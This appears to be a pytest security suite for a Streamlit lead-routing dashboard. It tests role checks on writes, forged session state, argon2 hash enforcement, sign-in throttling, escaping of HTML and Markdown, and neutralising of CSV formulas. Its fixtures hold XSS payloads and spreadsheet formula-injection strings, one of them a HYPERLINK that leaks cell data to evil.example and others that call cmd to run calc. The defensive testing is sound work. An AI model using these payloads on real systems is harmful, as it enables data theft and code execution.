"""Dashboard security, the gaps the page tests leave:

- every write path is known and refuses a viewer, also with forged widget or session state;
- no page shows anything but the sign-in to an unauthenticated session;
- the users file holds strong hashes only, and the app refuses anything else;
- failed sign-ins are throttled and their log lines carry no password;
- lead data that looks like HTML or Markdown is only ever shown as text.

Already covered elsewhere: the store's role check (test_team_repo), read-only widgets
for viewers, a role taken away mid-session, a forged proof (test_settings_page), the
throttle arithmetic (test_team_repo), a ``<script>`` company in the log (test_pages).
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
import logging
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from argon2 import PasswordHasher
from sqlmodel import SQLModel
from streamlit.testing.v1 import AppTest

from dashboard import auth, session, state
from devkit.commands.dashboard_fake import insert_fake
from tests.dashboard.conftest import PAGES, PASSWORDS, errors, new_app, open_page, sign_in
from worker.commands.dashboard import write_users_file
from worker.store.db import make_engine
from worker.store.queries.team_settings import change_history, load_overrides
from worker.store.team_repo import Actor

DASHBOARD = Path(__file__).resolve().parents[2] / "dashboard"
SOURCES = sorted(DASHBOARD.rglob("*.py"))

# Everything dashboard code imports from the store, reviewed. A new import fails
# test_every_store_call_is_reviewed until it is listed here: as a reader, or as a writer
# with the reason it is safe.
STORE_READERS = {
    "worker.store.db": {"make_engine"},
    "worker.store.queries": {
        "accounts",
        "fairness",
        "journal_log",
        "overview",
        "quality",
        "replay",
        "team_day",
        "team_settings",
    },
    "worker.store.queries.journal_log": {"OUTCOMES", "LogFilter", "SEARCH_WINDOW"},
    "worker.store.queries.fairness": {"FairnessReport"},
    "worker.store.queries.overview": {"Overview"},
    "worker.store.queries.team_settings": {"OverrideState"},
    "worker.store.sign_in_repo": {"is_revoked"},
    "worker.store.config_versions_repo": {
        "ConfigVersion",
        "PUBLISHED",
        "PublishConflict",
        "StaleDraft",
        "load_draft",
        "published",
        "versions",
    },  # fmt: skip
    "worker.store.team_repo": {
        "ROLES",
        "Actor",
        "InvalidSettings",
        "PermissionDenied",
        "StaleEdit",
    },  # fmt: skip
}
STORE_WRITERS = {
    "save_rep_override": "refuses anyone but an admin (require_admin), actor re-derived "
    "from the session's proof at the call",
    "begin_sign_in": "counts the attempt in the throttle before the password is checked; "
    "written before anyone is signed in, refuses nothing but the attempt itself",
    "set_availability": "refuses anyone but an admin or the rep themselves "
    "(require_admin_or_self: the rep key comes from the users file), actor re-derived from "
    "the session's proof at the call",
    "finish_sign_in": "the sign-in audit row; clears the account's failures only after "
    "its password was verified",
    "save_draft": "refuses anyone but an admin (require_admin), actor re-derived from the "
    "session's proof at the call; publishing and rolling back go through "
    "config_source.publish_routing, which calls the repo's admin-only publish",
    "revoke_session": "records a session token as signed out (the signed-in user's own, at "
    "sign-out or when a new token replaces it); it can only take access away",
}
WRITE_CONSTRUCTS = re.compile(
    r"\.begin\(|session_scope|\.commit\(|(?<![.\w])(insert|update|delete)\(|exec_driver_sql"
)
HOSTILE = {
    "lead_company": '<script>alert("xss-company")</script>',
    "lead_name": '<img src=x onerror=alert("xss-name")>',
    "lead_email": "xss-mail@evil.example",
    "lead_source": "![xss-source](https://evil.example/pixel.png)",
    "lead_rating": "<b>xss-rating</b>",
    "error": "[xss-error](javascript:alert(1)) <img src=x onerror=alert(2)>",
}
# elements whose content the browser shows as text (grids, plain text, code, option
# lists, inputs, Vega charts); headings, alerts, captions, metrics and markdown render
# Markdown (links, images) and are not on this list
TEXT_ONLY = {"dataframe", "table", "text", "code", "selectbox", "multiselect", "text_input",
             "text_area", "json", "arrow_vega_lite_chart", "vega_lite_chart",
             "download_button"}  # fmt: skip


@pytest.fixture
def store(sqlite_url: str) -> str:
    from worker.store.db import upgrade

    upgrade(sqlite_url)
    insert_fake(make_engine(sqlite_url, pool=False), 400, days=7, seed=3)
    return sqlite_url


@pytest.fixture
def hostile_store(store: str) -> str:
    """The newest 30 routed decisions carry lead values that look like HTML/Markdown."""
    engine = make_engine(store, pool=False)
    sets = ", ".join(f"{c} = :{c}" for c in HOSTILE)
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                f"UPDATE decision SET {sets} WHERE id IN (SELECT id FROM decision "
                "WHERE status = 'applied' ORDER BY decided_at DESC LIMIT 30)"
            ),
            HOSTILE,
        )
    return store


@pytest.fixture
def unsigned(dashboard_env: Callable[[str], None]) -> Iterator[Callable[[str], AppTest]]:
    import streamlit as st

    def make(url: str) -> AppTest:
        dashboard_env(url)
        return new_app()

    yield make
    st.cache_data.clear()
    st.cache_resource.clear()


def table_rows(url: str) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table: what a read-only path must leave exactly as it was."""
    engine = make_engine(url, pool=False)
    with engine.connect() as conn:
        return {
            t.name: sorted(map(tuple, conn.execute(sa.select(t)).all()), key=repr)
            for t in SQLModel.metadata.sorted_tables
        }


def _walk(node: Any) -> Iterator[Any]:
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for child in children.values():
            yield from _walk(child)
    else:
        yield node


def places_showing(at: AppTest, marker: str) -> dict[str, int]:
    """Element type -> how many elements of the rendered page contain ``marker``."""
    found: dict[str, int] = {}
    for element in _walk(at._tree):
        proto = getattr(element, "proto", None)
        if proto is not None and marker in str(proto):
            kind = str(getattr(element, "type", type(element).__name__))
            found[kind] = found.get(kind, 0) + 1
    return found


def forge(widget: Any, value: Any) -> None:
    """Set a widget's value the way a hand-made websocket message would, past AppTest's
    "a browser user cannot do that" check (disabled widgets included)."""
    widget._value = value


# --- write paths --------------------------------------------------------------------------


def _store_imports() -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("worker."):
                found.setdefault(str(node.module), set()).update(a.name for a in node.names)
    return found


def test_every_store_call_is_reviewed() -> None:
    imports = _store_imports()
    store = {m: names for m, names in imports.items() if m.startswith("worker.store")}
    unreviewed = {
        f"{m}.{n}"
        for m, names in store.items()
        for n in names
        if n not in STORE_READERS.get(m, set()) and n not in STORE_WRITERS
    }
    assert unreviewed == set(), "review these store imports (reader or guarded writer?)"
    assert {"save_rep_override", "begin_sign_in", "finish_sign_in"} <= set().union(*store.values())


def test_dashboard_code_writes_to_the_store_only_through_the_reviewed_writers() -> None:
    raw = [
        f"{p.relative_to(DASHBOARD)}:{n}: {line.strip()}"
        for p in SOURCES
        for n, line in enumerate(p.read_text().splitlines(), 1)
        if WRITE_CONSTRUCTS.search(line) and not line.lstrip().startswith("#")
    ]
    assert raw == [], "raw SQL writes in dashboard code bypass the role check"
    team_repo_calls = [
        f"{p.name}: {line.strip()}"
        for p in SOURCES
        for line in p.read_text().splitlines()
        if re.search(r"team_repo\.\w+\(", line)
    ]
    assert team_repo_calls == [], "reads go through worker.store.queries, not team_repo"


def test_every_settings_write_passes_the_actor_derived_at_the_call() -> None:
    calls = []
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") in (
                "save_rep_override",
                "set_availability",
            ):
                actor = next(k.value for k in node.keywords if k.arg == "actor")
                calls.append((path.name, ast.unparse(actor)))
    assert sorted(calls) == [
        ("availability.py", "session.current_actor()"),
        ("team.py", "session.current_actor()"),
    ]


def test_a_viewer_forging_the_disabled_save_changes_nothing(
    store: str, app_as: Callable[..., AppTest]
) -> None:
    at = open_page(app_as(store, "viewer"), "team").run()
    forge(at.number_input(key="team_weight"), 7.0)
    forge(at.toggle(key="team_enabled"), False)
    forge(at.button(key="team_save"), True)
    at.run()
    assert load_overrides(make_engine(store)) == {}
    assert change_history(make_engine(store)) == []


def test_a_page_that_trusted_a_stale_role_is_still_refused_by_the_store(
    store: str, app_as: Callable[..., AppTest], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: even when the page shows a viewer the admin form (here: the
    page-level check is fooled), the write re-derives the actor and the store refuses."""
    at = app_as(store, "viewer")
    real = session.current_actor

    def fooled_but_at_the_write() -> Actor | None:
        actor = real()
        caller = "".join(inspect.stack()[1].code_context or [])
        at_the_write = "actor=session.current_actor()" in caller
        return actor if actor is None or at_the_write else Actor(actor.username, "admin")

    monkeypatch.setattr(session, "current_actor", fooled_but_at_the_write)
    open_page(at, "team").run()
    assert not at.button(key="team_save").disabled, "the page believes the viewer is admin"
    at.number_input(key="team_weight").set_value(7.0)
    at.button(key="team_save").click().run()
    assert any("Not saved" in e.value and "admin role required" in e.value for e in at.error)
    assert load_overrides(make_engine(store)) == {}


@pytest.mark.parametrize(
    "forged",
    [
        auth.SignedIn("admin", "0" * 64),
        auth.SignedIn("admin", auth.proof("viewer")),  # a viewer's proof, username swapped
        auth.SignedIn("nobody", auth.proof("nobody")),  # a real proof, unknown user
        Actor("admin", "admin"),
        {"username": "admin", "role": "admin"},
        "admin",
    ],
    ids=["zero-proof", "swapped-user", "unknown-user", "actor", "dict", "string"],
)
def test_forged_session_state_gets_only_the_sign_in(
    forged: object, store: str, unsigned: Callable[[str], AppTest]
) -> None:
    at = unsigned(store)
    at.session_state[state.USER] = forged
    at.run()
    assert [t.value for t in at.title] == ["leadrouter"]
    assert not at.dataframe and not at.metric and errors(at) == []


def test_what_if_writes_nothing_even_for_an_admin(
    store: str, app_as: Callable[..., AppTest]
) -> None:
    before = table_rows(store)
    at = open_page(app_as(store, "admin"), "whatif").run()
    at.button(key="whatif_run").click().run()
    assert errors(at) == [] and at.dataframe, "the replay ran"
    after = table_rows(store)
    for table in ("sign_in_attempt", "sign_in_throttle"):  # the sign-in itself counts
        after[table] = before[table]
    assert after == before


# --- unauthenticated --------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES)
def test_an_unauthenticated_session_sees_only_the_sign_in_on_every_page(
    page: str, store: str, unsigned: Callable[[str], AppTest]
) -> None:
    at = open_page(unsigned(store), page).run()
    assert [t.value for t in at.title] == ["leadrouter"]
    assert at.text_input(key="signin_password") is not None
    shown = {str(getattr(e, "type", "")) for e in _walk(at._tree)}
    assert shown <= {"title", "caption", "text_input", "button", "form"}, shown


def test_views_are_not_served_as_pages_of_their_own() -> None:
    """Streamlit serves every script in a ``pages/`` folder next to the app without
    going through app.py (and its sign-in); the views live elsewhere."""
    assert not (DASHBOARD / "pages").exists()


# --- users file -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ("hunter2-hunter2", "must be an argon2 hash"),
        ("$2b$12$C6UzMDM.H6dfI/f/IKxGhuJfvQn3lBDfOrb0/LHUvKBwPpOL4WmOa", "must be an argon2"),
        ("5f4dcc3b5aa765d61d8327deb882cf99", "must be an argon2 hash"),
        (PasswordHasher(time_cost=1, memory_cost=8, parallelism=1).hash("pw"), "weak argon2"),
        ("$argon2id$v=19$nonsense", "not a well-formed argon2"),
    ],
    ids=["plaintext", "bcrypt", "md5", "weak-argon2", "garbled"],
)
def test_the_app_refuses_a_users_file_without_strong_hashes(
    entry: str,
    says: str,
    store: str,
    tmp_path: Path,
    unsigned: Callable[[str], AppTest],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = tmp_path / "users.yaml"
    path.write_text(f"- {{username: eve, role: admin, password_hash: '{entry}'}}\n")
    with pytest.raises(auth.UsersFileError, match=says):
        auth.load_users(path)
    at = unsigned(store)
    monkeypatch.setenv("LEADROUTER_DASHBOARD_USERS_FILE", str(path))
    at.run()
    shown = [e.value for e in at.error]
    assert len(shown) == 1 and "eve" in shown[0] and says in shown[0]
    assert entry not in shown[0] and not at.text_input  # no sign-in form either


def test_the_users_file_the_cli_writes_holds_strong_argon2id_hashes(tmp_path: Path) -> None:
    path = tmp_path / "users.yaml"
    write_users_file(path, {"ann": ("viewer", "ann-pass-1234")})
    users = auth.load_users(path)  # passes the app's own strength check
    assert users["ann"].password_hash.startswith("$argon2id$")
    assert "ann-pass-1234" not in path.read_text()


# --- throttling -------------------------------------------------------------------------


def test_failed_sign_ins_are_throttled_and_logged_without_the_password(
    store: str, unsigned: Callable[[str], AppTest], caplog: pytest.LogCaptureFixture
) -> None:
    at = unsigned(store)
    wrong = [f"wrong-guess-{i}-Zq9" for i in range(5)]
    with caplog.at_level(logging.DEBUG):
        for guess in wrong:
            sign_in(at, "admin", guess)
            assert any("Wrong username or password" in e.value for e in at.error)
        sign_in(at, "admin")  # the right password, too soon
        assert any("Too many failed attempts" in e.value for e in at.error)
        assert [t.value for t in at.title] == ["leadrouter"]
    lines = [r for r in caplog.records if r.name == "leadrouter.dashboard.auth"]
    assert sum("sign-in failed" in r.getMessage() for r in lines) == 5
    assert any("sign-in throttled" in r.getMessage() for r in lines)
    logged = caplog.text + "".join(repr(r.args) for r in caplog.records)
    for secret in [*wrong, PASSWORDS["admin"]]:
        assert secret not in logged


# --- lead data is shown as text ---------------------------------------------------------


def _hostile_markers() -> list[str]:
    return sorted(set(re.findall(r"xss-\w+", " ".join(HOSTILE.values()))))


@pytest.mark.parametrize("page", ["log", "fairness", "whatif", "overview"])
def test_lead_values_like_html_or_markdown_are_shown_only_as_text(
    page: str, hostile_store: str, app_as: Callable[..., AppTest]
) -> None:
    at = open_page(app_as(hostile_store, "admin"), page).run()
    if page == "log":  # open a hostile decision and its trace
        at.text_input(key="log_search").input("xss-mail@evil.example").run()
    if page == "whatif":
        at.button(key="whatif_run").click().run()
    assert errors(at) == [] or page == "log"  # the log shows the decision's error on purpose
    shown: dict[str, int] = {}
    for marker in _hostile_markers():
        for kind, n in places_showing(at, marker).items():
            shown[kind] = shown.get(kind, 0) + n
    assert set(shown) <= TEXT_ONLY, f"lead data rendered as Markdown/HTML in {shown}"
    assert all(not m.allow_html for m in at.markdown)
    if page in ("log", "fairness"):
        assert shown, "the page shows the hostile values (else this test proves nothing)"


def test_no_dashboard_code_opts_into_raw_html() -> None:
    """Every use of raw HTML in dashboard code, each to be justified here. None today:
    the printable report is a download (escaped in report.py), never rendered inline."""
    allowed: dict[str, str] = {}
    uses = [
        f"{p.relative_to(DASHBOARD)}: {line.strip()}"
        for p in SOURCES
        for line in p.read_text().splitlines()
        if re.search(r"unsafe_allow_html|st\.html\(|components\.|allow_html", line)
    ]
    assert [u for u in uses if u not in allowed] == []


def test_the_printable_fairness_report_escapes_names() -> None:
    import pandas as pd

    from dashboard.report import fairness_html
    from worker.store.queries.fairness import FairnessReport

    evil = HOSTILE["lead_company"]
    reps = pd.DataFrame([{"name": evil, "actual": 1, "target": 1.0, "deviation": 0.0,
                          "caps_hit": 0}])  # fmt: skip
    service = pd.DataFrame([{"owner_id": "005", "owner": evil, "leads": 1}])
    from datetime import UTC, datetime

    at = datetime(2026, 11, 1, tzinfo=UTC)
    report = FairnessReport(evil, at, at, 1, 0, False, (), None, None, None, evil)
    html = fairness_html(report, reps, service, generated="now")
    assert "<script>" not in html and html.count("&lt;script&gt;") >= 4


# --- CSV exports carry no spreadsheet formula ---------------------------------------------

FORMULA_COMPANIES = [
    '=HYPERLINK("http://evil.example/?leak="&E2,"Acme")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_distribution_log_export_neutralises_formulas_and_keeps_umlauts(
    store: str, app_as: Callable[..., AppTest]
) -> None:
    companies = [*FORMULA_COMPANIES, "Müller GmbH"]
    engine = make_engine(store, pool=False)
    with engine.begin() as conn:
        ids = (
            conn.execute(
                sa.text("SELECT id FROM decision ORDER BY decided_at DESC, id DESC LIMIT :n"),
                {"n": len(companies)},
            )
            .scalars()
            .all()
        )
        for decision_id, company in zip(ids, companies, strict=True):
            conn.execute(
                sa.text("UPDATE decision SET lead_company = :c, lead_name = :c WHERE id = :i"),
                {"c": company, "i": decision_id},
            )
    at = open_page(app_as(store, "viewer"), "log").run()  # viewers can export
    at.date_input(key="log_period").set_value(()).run()
    at.button(key="log_csv_prepare").click().run()
    raw = at.session_state["log_csv"]
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, or Excel garbles the umlaut"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    exported = {r["lead_company"] for r in rows}
    assert {"'" + c for c in FORMULA_COMPANIES} | {"Müller GmbH"} <= exported
    cells = [cell for row in rows for cell in row.values() if cell]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
